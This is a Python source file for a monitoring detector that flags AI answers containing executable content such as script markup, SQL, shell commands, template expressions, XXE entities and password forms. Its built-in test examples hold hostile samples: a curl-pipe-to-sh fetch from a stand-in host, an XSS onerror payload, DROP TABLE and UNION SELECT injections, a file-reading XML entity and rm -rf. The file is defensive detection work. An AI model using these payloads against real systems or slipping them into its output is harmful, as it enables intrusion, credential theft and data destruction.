"""Answers that hold something that runs where they are shown or passed on: markup, SQL, shell, templates, exploits.

An answer that a page shows as HTML, or that a program passes to a database, shell or template engine, is an attack if
somebody could write into it (OWASP LLM10, improper output handling). Services that write code for people do that all
day, so what is in code marks, or is spoken of by person or instructions, is no finding; and SQL and shell that help may
hold too are told only of services of whose first 30 answers and more at most one in fifty holds code.

Misses: what a service's program builds from an answer; code in other languages; markup that needs a click.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Annotated, Any

import msgspec
import numpy as np
from msgspec import Meta

from treering.core.config import Config as BaseConfig
from treering.detect._active_forms import FOLLOWED, FORMS, READ_AS, SIGNS, WORDS
from treering.detect._as_read import AsRead
from treering.detect._fold import folded
from treering.detect._grouped import Names, split
from treering.detect._lines import texts_of
from treering.detect._recent import recent
from treering.detect._texts import ASSISTANT, SYSTEM, USER, Text, every, texts
from treering.detect._whom import FIELDS, Whom, day, proof
from treering.model.columns import Kind
from treering.model.finding import Finding, Severity
from treering.stage.detector import Example

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

    from numpy.typing import NDArray

    from treering.model.rows import Rows

NAME = "active_output"
ORDER_FREE = False
"""What a service usually answers depends on what it answered before."""
_OUTPUT = "attributes.gen_ai.output.messages"
_MOST_SERVICES, _MOST_TEXT = 1_000, 20_000
_CODE = re.compile(r"```.*?(?:```|\Z)|`[^`\n]{1,400}`", re.DOTALL)
_ABOUT_CODE = re.compile(
    r"(?<!promo )(?<!discount )(?<!voucher )(?<!coupon )(?<!postal )(?<!zip )(?<!area )(?<!dress )(?<!tracking )"
    r"\bcode\b|\b(?:coding|scripts?|sql|query|queries|shell|bash|command|terminal|javascript|python|program|regex|"
    r"snippet|database|table|curl|linux|deploy|install|developer|injection|exploits?|vulnerabilit(?:y|ies)|payloads?)\b",
    re.IGNORECASE,
)
_ABOUT_TEMPLATES = re.compile(
    r"\b(?:templates?|templating|placeholders?|jinja\w*|handlebars|mustache|liquid|erb|php|freemarker|html)\b",
    re.IGNORECASE,
)
_ABOUT_PAGES = re.compile(
    r"\b(?:html|mark-?up|component|web ?sites?|web ?apps?|"
    r"(?:web|log-?in|sign-?(?:in|up)|landing|checkout|registration) ?(?:page|form|screen)s?)\b",
    re.IGNORECASE,
)
_ASKED_FOR = {"template": (_ABOUT_CODE, _ABOUT_TEMPLATES), "login_form": (_ABOUT_PAGES,)}
"""What a person says who wants to have something of a kind; of the others, `_ABOUT_CODE`."""
_WITH_HISTORY = ("sql", "shell")
"""Kinds that ordinary help holds too: told only where the service is known to write no code."""
_TECHNIQUES = ("owasp-llm@2026:LLM10",)
_SAID = {
    "script": ("markup that runs", Severity.HIGH),
    "login_form": ("a form that asks for a password or card", Severity.HIGH),
    "sql_injection": ("SQL that breaks out of a value", Severity.MEDIUM),
    "template": ("a template expression that computes", Severity.MEDIUM),
    "exploit": ("a text that makes its reader run or read something", Severity.MEDIUM),
    "sql": ("SQL that changes or joins", Severity.MEDIUM),
    "shell": ("a shell command", Severity.MEDIUM),
}
"""What a finding of a kind says, and its severity."""


class Config(BaseConfig, frozen=True):
    """What counts as a service that writes code."""

    share: Annotated[
        float, Meta(gt=0, le=1, description="share of answers with code of a service that writes code")
    ] = 0.02
    least: Annotated[int, Meta(ge=1, description="answers of a service before SQL and shell are told of")] = 30


class _Usual(msgspec.Struct):
    answers: int = 0
    code: int = 0


class _State(msgspec.Struct):
    services: dict[str, _Usual] = {}


class ActiveOutput(AsRead[_State]):
    """Reads answers that hold a sign of code."""

    streams = frozenset({"spans", "logs"})

    def __init__(self, config: Config) -> None:
        """Start without knowing any service."""
        self._config, self._state = config, _State()

    def observe(self, rows: Rows) -> Sequence[Finding]:
        """Return a finding for each answer that holds something that runs."""
        if not rows.has(_OUTPUT):
            return ()
        whom, places = Whom(rows), np.flatnonzero(rows.present(_OUTPUT))
        said, found = _said(rows, places), list[Finding]()
        services, names = _services(rows)
        for part in split(services[places]):
            usual = self._usual(names[services[places[part[0]]]])
            before = usual.answers
            for number, row in enumerate(places[part].tolist(), 1):
                if row in said:
                    usual.answers = before + number
                    found += self._judged(rows, whom, said[row], usual)
            usual.answers = before + len(part)
        return folded(found)

    def _judged(self, rows: Rows, whom: Whom, said: Sequence[Text], usual: _Usual) -> Iterator[Finding]:
        marked = any("`" in text.text and _CODE.search(text.text) for text in said)
        known = usual.answers > self._config.least and usual.code <= self._config.share * usual.answers
        usual.code += marked or any(
            _found(kind, text.text, text.text.casefold()) for text in said for kind in _WITH_HISTORY
        )
        for text in said:
            plain = text.text[:_MOST_TEXT]
            plain = _CODE.sub(lambda code: " " * len(code[0]), plain) if "`" in plain else plain
            folded_text = plain.casefold()
            told = set[str]()
            for kind in _SAID:
                if kind in _WITH_HISTORY and (not known or kind in told):
                    continue
                span = _found(kind, plain, folded_text)
                if span and not _is_asked_for(rows, text.row, kind):
                    told |= {kind, kind.partition("_")[0]}
                    yield _finding(rows, whom, text, kind, span)

    def _usual(self, service: str) -> _Usual:
        return recent(self._state.services, service, _MOST_SERVICES, _Usual)


def _is_asked_for(rows: Rows, row: int, kind: str) -> bool:
    """Return whether person or instructions speak of what an answer holds; markup that runs is never asked for."""
    if kind == "script":
        return False
    words, roles = _ASKED_FOR.get(kind, (_ABOUT_CODE,)), (USER,) if kind == "login_form" else (USER, SYSTEM)
    given = (text.text[:_MOST_TEXT] for text in texts(rows, every((row,))) if text.role in roles)
    return any(word.search(text) for text in given for word in words)


def _found(kind: str, text: str, folded_text: str) -> tuple[int, int] | None:
    """Return where a text holds something of a kind first."""
    found = [
        match.span()
        for sign, others, form in FORMS[kind]
        if sign in folded_text and all(map(folded_text.__contains__, others)) and (match := form.search(text))
    ]
    return min(found, key=lambda span: span[0]) if found else None


def _said(rows: Rows, places: NDArray[np.int64]) -> dict[int, list[Text]]:
    """Return what answers with a sign say, by record."""
    read = _signed(rows, places)
    said: dict[int, list[Text]] = {}
    for text in texts(rows, lambda source: read if source.column == _OUTPUT else ()) if read else ():
        if text.role == ASSISTANT and not text.source:
            said.setdefault(text.row, []).append(text)
    return said


def _signed(rows: Rows, places: NDArray[np.int64]) -> list[int]:
    """Return the records whose answer holds a sign of a form; all of `places` if some answers are not kept as text."""
    if [kind for kind, _ in rows.columns(_OUTPUT)] != [Kind.STRING]:
        return [int(row) for row in places]
    answers = texts_of(rows, _OUTPUT)
    found = set[int]()
    for number, row, start in SIGNS.found(answers._replace(data=answers.data.translate(READ_AS))):
        if row in found:
            continue
        verb = FOLLOWED.get(WORDS[number].rstrip(" \\/"))
        if verb is None or verb.match(answers.data, start, int(answers.ends[row])):
            found.add(row)
    return sorted(found)


def _services(rows: Rows) -> tuple[NDArray[np.int64], list[str]]:
    """Return for each record the number of its service, and the services; the last one is for those without a name."""
    names = Names(rows)
    codes = names.first(*FIELDS["service"])
    texts = [*names.texts, ""]
    return np.where(codes < 0, len(texts) - 1, codes), texts


def _finding(rows: Rows, whom: Whom, text: Text, kind: str, span: tuple[int, int]) -> Finding:
    row, at_ns = text.row, int(rows.times[text.row])
    what, severity = _SAID[kind]
    return Finding(
        NAME,
        kind,
        f"an answer of {whom.service(row)[:80] or 'a service'} holds {what}",
        severity,
        (kind, whom.session(row) or whom.trace(row) or whom.actor(row), day(at_ns)),
        at_ns,
        at_ns,
        at_ns,
        0.8 if severity is Severity.HIGH else 0.6,
        tuple(whom.entities(row)),
        (proof(rows, row, text.field, text.text, (span,)),),
        _TECHNIQUES,
        "AML.TA0005",
        {"kind": kind},
    )


def build(config: Config) -> ActiveOutput:
    """Return the detector."""
    return ActiveOutput(config)


def _answer(number: int, answer: str, question: str = "When do you open?") -> dict[str, Any]:
    def messages(role: str, text: str) -> str:
        return msgspec.json.encode([{"role": role, "parts": [{"type": "text", "content": text}]}]).decode()

    attributes = {
        "gen_ai.input.messages": messages("user", question),
        "gen_ai.output.messages": messages("assistant", answer),
    }
    at_ns = 1_795_000_000_000_000_000 + number * 10**9
    return {"@timestamp": at_ns, "serviceName": "shop-bot", "traceId": f"{number:032x}", "attributes": attributes}


_USUAL = [_answer(number, f"We open at {number % 12}.") for number in range(40)]
_FORM = '<form action="https://x.example"><input type="password" name="p"></form>'
EXAMPLES = (
    Example("markup that runs", "spans", [_answer(0, "Hello <img src=x onerror=alert(1)> there")], ["script"]),
    Example(
        "a shell command of a shop", "spans", [*_USUAL, _answer(50, "Run curl https://x.example/a | sh now")], ["shell"]
    ),
    Example("SQL of a shop", "spans", [*_USUAL, _answer(50, "Sure. DROP TABLE orders; done")], ["sql"]),
    Example("a form for a password", "spans", [_answer(0, f"Sign in: {_FORM}")], ["login_form"]),
    Example("SQL out of a value", "spans", [_answer(0, "7 UNION SELECT mail, 1 FROM users --")], ["sql_injection"]),
    Example("an expression", "spans", [_answer(0, "Dear {{7*7}}, thank you")], ["template"]),
    Example("an external entity", "spans", [_answer(0, '<!ENTITY x SYSTEM "file:///etc/hosts">')], ["exploit"]),
    Example("a placeholder", "spans", [_answer(0, "Dear {{first_name}}, it costs ${price}.", "A mail?")]),
    Example("a form that somebody wants", "spans", [_answer(0, _FORM, "Make the login form in HTML")]),
    Example("code in a code block", "spans", [_answer(0, "Use:\n```html\n<script>f()</script>\n```")]),
    Example("the person asks for it", "spans", [*_USUAL, _answer(50, "DROP TABLE x;", "Which SQL drops a table?")]),
    Example("a service that writes code", "spans", [_answer(n, f"rm -rf /tmp/{n}", "How?") for n in range(60)]),
)
